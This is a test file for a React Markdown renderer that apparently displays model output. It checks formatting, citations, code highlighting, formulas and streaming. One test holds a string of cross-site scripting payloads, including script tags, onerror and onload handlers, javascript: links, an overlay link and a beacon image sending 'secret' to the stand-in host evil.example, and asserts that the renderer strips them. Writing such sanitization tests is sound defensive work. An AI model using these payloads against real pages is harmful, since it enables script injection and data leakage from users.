import { render, screen, waitFor } from "@testing-library/react";
import { describe, expect, it, vi } from "vitest";
import { Markdown } from "./markdown";

const HOSTILE = `
<script>window.hacked = true</script>
<img src="https://evil.example/a.png" onerror="window.hacked = true">
<svg onload="window.hacked = true"><style>body { display: none }</style></svg>
<iframe src="https://evil.example"></iframe>

![beacon](https://evil.example/pixel.png?q=secret)

[click](javascript:window.hacked=true) [data](data:text/html,x) [relative](/api/v1/chat/session)

<a href="https://evil.example" style="position:fixed;inset:0" onclick="x()">cover</a>

\`\`\`html
<b onclick="x()">code</b>
\`\`\`
`;

describe("Markdown", () => {
  it("renders what models write", () => {
    render(
      <Markdown
        text={"# Big\n\n**bold** and `code`\n\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |"}
      />,
    );

    expect(screen.getByRole("heading", { level: 3, name: "Big" })).toBeInTheDocument();
    expect(screen.getByText("bold").tagName).toBe("STRONG");
    expect(screen.getByRole("cell", { name: "2" })).toBeInTheDocument();
    expect(screen.getByRole("checkbox")).toBeDisabled();
  });

  it("runs, loads and styles nothing of hostile text", () => {
    const { container } = render(<Markdown text={HOSTILE} />);

    expect(container.querySelector("script, img, svg:not(.lucide), iframe, style")).toBeNull();
    for (const element of container.querySelectorAll("*")) {
      const names = element.getAttributeNames();
      expect(names.filter((name) => name.startsWith("on") || name === "style")).toEqual([]);
    }
    const links = screen.getAllByRole("link");
    expect(links.map((link) => link.getAttribute("href"))).toEqual([
      "https://evil.example/pixel.png?q=secret",
    ]);
    expect(links[0]).toHaveAttribute("rel", "noreferrer noopener nofollow");
    expect(screen.getByText('<b onclick="x()">code</b>')).toBeInTheDocument();
  });

  it("makes marks of the sources there are, outside code and links", () => {
    render(
      <Markdown
        text={"A [1][2], b [3]. `x[1]` [link [1]](https://example.org)"}
        citable={new Set([1, 2])}
        renderMark={(n) => <button type="button">{`mark ${n}`}</button>}
      />,
    );

    expect(screen.getAllByRole("button").map((button) => button.textContent)).toEqual([
      "mark 1",
      "mark 2",
    ]);
    expect(screen.getByText(/b \[3\]/)).toBeInTheDocument();
    expect(screen.getByRole("button", { name: "mark 1" }).parentElement).toHaveClass("cited");
    expect(screen.getByText("x[1]")).toBeInTheDocument();
  });

  it("colours code of a language it knows, and copies it as it was", async () => {
    const { container } = render(<Markdown text={"```python\ndef f(): return 1\n```"} />);

    await waitFor(() => expect(container.querySelector(".hljs-keyword")).toHaveTextContent("def"));
    expect(container.querySelector("code")).toHaveTextContent("def f(): return 1");
    expect(screen.getByText("python")).toBeInTheDocument();
  });

  it("shows formulas as MathML, inline and on lines of their own", async () => {
    const { container } = render(<Markdown text={"So $e^{i\\pi}+1=0$:\n\n\\[\\frac{1}{2}\\]"} />);

    await waitFor(() => expect(container.querySelectorAll("math")).toHaveLength(2));
    expect(container.querySelector(".formula-display mfrac")).not.toBeNull();
    expect(container.querySelector("[style]")).toBeNull();
  });

  it("shows the source of a formula that cannot be read, and follows no link of one", async () => {
    const { container } = render(
      <Markdown text={"$\\frac{$ and $\\href{javascript:alert(1)}{x}$"} />,
    );

    await waitFor(() => expect(container.querySelector("math")).not.toBeNull());
    expect(container.querySelector("a, [href]")).toBeNull();
  });

  it("closes what is half open only while the text still grows", () => {
    const { rerender } = render(<Markdown text="so **bold" streaming />);
    expect(screen.getByText("bold").tagName).toBe("STRONG");

    rerender(<Markdown text="2 ** 3" />);
    expect(screen.getByText("2 ** 3")).toBeInTheDocument();
  });

  it("does not render finished blocks again when text is added", () => {
    const renderMark = vi.fn((n: number) => <sup>{n}</sup>);
    const citable = new Set([1]);
    const { rerender } = render(
      <Markdown text={"One [1].\n\nTwo"} streaming citable={citable} renderMark={renderMark} />,
    );
    const calls = renderMark.mock.calls.length;
    rerender(
      <Markdown
        text={"One [1].\n\nTwo, more"}
        streaming
        citable={citable}
        renderMark={renderMark}
      />,
    );

    expect(calls).toBeGreaterThan(0);
    expect(renderMark).toHaveBeenCalledTimes(calls);
  });
});
